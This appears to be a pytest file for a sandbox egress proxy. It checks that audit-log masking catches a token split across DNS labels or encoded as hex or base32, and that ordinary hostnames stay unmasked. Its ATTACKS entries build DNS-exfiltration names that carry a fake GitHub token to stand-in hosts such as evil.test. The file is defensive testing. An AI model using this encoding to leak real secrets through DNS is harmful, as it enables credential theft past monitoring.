"""A server cuts the user's token across the labels of the name it asks the sandbox to reach, or
encodes it first (DNS exfiltration as tools do it: hex or base32 in labels of at most 63
characters, ``<hex>.<hex>.evil.test``): a lookup, a ``CONNECT`` the proxy refuses, or a name an
allowed ``*.domain`` covers.

Before (2026-12-06): the proxy masked a record's host by the DLP rules (``redact_text``), which
read each label apart (a dot ends a token): a token cut in two labels, or its hex or base32
(longer than a label), was recorded in the host's audit log whole, and the refusal's reason
that quotes the name with it.

Now runs of two to eight consecutive labels are also read joined, as one word (the DLP engine
reads the hex, base32 and base64 there as it reads them anywhere), and the labels of a run that
holds a secret are masked, in the host and in the reason that quotes it. Ordinary names are
recorded as they were: cloud and CDN names, hashes and random ids as labels, reversed
addresses, and 1,500 random names of hex, letters and digits."""

from __future__ import annotations

import base64
import json
import random
import socket
import string
import time
from pathlib import Path

import pytest
from sandbox_proxy_kit import bridge_reported, egress_proxy, stand_in_resolver

from mcpward.sandbox.interface import NetworkRules

TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
HEX = TOKEN.encode().hex()  # 80 characters: more than one label holds
BASE32 = base64.b32encode(TOKEN.encode()).decode().lower().rstrip("=")  # 64


def _parts(text: str, size: int) -> str:
    return ".".join(text[i : i + size] for i in range(0, len(text), size))


ATTACKS = {
    "hex-in-two": f"{HEX[:40]}.{HEX[40:]}.evil.test",
    "hex-in-four": f"{_parts(HEX, 20)}.evil.test",
    "base32-in-two": f"{BASE32[:32]}.{BASE32[32:]}.evil.test",
    "token-in-two": f"{TOKEN[:20]}.{TOKEN[20:]}.evil.test",
    "between-others": f"www.{HEX[:40]}.{HEX[40:]}.s1.evil.co.uk",
    "hex-in-eight": f"{_parts(HEX, 10)}.evil.test",
}

ORDINARY = [
    "api.github.com",
    "registry.npmjs.org",
    "ec2-54-123-45-67.compute-1.amazonaws.com",
    "ec2-1-2-3-4.us-west-2.compute.amazonaws.com",
    "d111111abcdef8.cloudfront.net",
    "a1b2c3d4e5f6a7b8.cloudfront.net",
    "my-bucket.s3.us-east-1.amazonaws.com",
    "abcdef0123456789abcdef0123456789.r.cdn.example.net",
    "5d41402abc4b2a76b9719d911017c592.7b502c3a1f48c8609ae212cdfb639dee.cdn.example.net",
    "0123456789abcdef.0123456789abcdef.0123456789abcdef.cdn.test",
    "e3b0c44298fc1c149afbf4c8996fb924.27ae41e4649b934ca495991b7852b855.example.org",
    "6f1c2b7e-3d4a-4e5f-9a8b-7c6d5e4f3a2b.workers.example.dev",
    "xn--bcher-kva.example",
    "4.3.2.1.in-addr.arpa",
    "b.a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0.0.0.0.0.1.2.3.4.ip6.arpa",
    "192.168.100.200.nip.io",
    "project-7f3a9c.region-eu.run.app",
    "storage.googleapis.com",
    "login.microsoftonline.com",
    "mcp-7f3a9c2b1d.westeurope.azurecontainerapps.io",
]


def _ask(port: int, payload: bytes) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as client:
        client.sendall(payload)
        client.recv(100)


def _random_names(count: int) -> list[str]:
    """Names of two to seven labels of hex, of letters and digits, of any length a label has."""
    chosen = random.Random(20261206)  # noqa: S311 - the same names each run
    alphabets = (
        string.hexdigits.lower(),
        string.ascii_lowercase + string.digits,
        string.ascii_letters + string.digits,
    )
    names = []
    for _ in range(count):
        alphabet = chosen.choice(alphabets)
        labels = [
            "".join(chosen.choice(alphabet) for _ in range(chosen.randint(1, 63)))
            for _ in range(chosen.randint(2, 7))
        ]
        names.append(".".join([*labels, "example", "test"])[-253:].lstrip("."))  # as long as a name is
    return names


def _looked_up(tmp_path: Path, names: list[str]) -> list[str]:
    """The hosts recorded for DNS lookups of ``names``, as the bridge reports them."""
    return [record["host"] for record in bridge_reported(tmp_path, [f"DNS {name}" for name in names], "DNS")]


@pytest.mark.parametrize("name", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_token_across_labels_is_masked(tmp_path: Path, name: str) -> None:
    [host] = _looked_up(tmp_path, [name])
    assert HEX[8:24] not in host and BASE32[8:24] not in host and TOKEN[8:16] not in host, host
    assert host.endswith((".evil.test", ".evil.co.uk")), host
    assert "****" in host


def test_the_refusal_that_quotes_the_name_is_masked_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The name an allowed *.domain covers resolves to the host's loopback: refused, and the
    # refusal's reason quotes the name.
    stand_in_resolver(monkeypatch, lambda name: name.endswith(".example.test"), "127.0.0.1")
    name = f"{HEX[:40]}.{HEX[40:]}.example.test"
    with egress_proxy(tmp_path, NetworkRules(allow=("*.example.test",))) as (proxy, records):
        _ask(proxy.port, f"CONNECT {name}:443 HTTP/1.1\r\n\r\n".encode())
    assert len(records) == 1, records
    assert HEX[8:24] not in json.dumps(records), records
    assert records[0]["host"] == "****.****.example.test"


def test_ordinary_names_are_recorded_as_they_were(tmp_path: Path) -> None:
    assert _looked_up(tmp_path, ORDINARY) == ORDINARY


def test_random_names_are_recorded_as_they_were(tmp_path: Path) -> None:
    names = _random_names(1500)
    recorded = _looked_up(tmp_path, names)
    assert [(name, host) for name, host in zip(names, recorded, strict=True) if name != host] == []


def test_a_name_of_many_short_labels_costs_little(tmp_path: Path) -> None:
    # 124 labels of one character (the longest name): each run of up to eight labels read once.
    names = [".".join(chosen * 124) + ".test" for chosen in "abcdefghij"]
    started = time.perf_counter()
    assert _looked_up(tmp_path, names) == names
    assert time.perf_counter() - started < 10
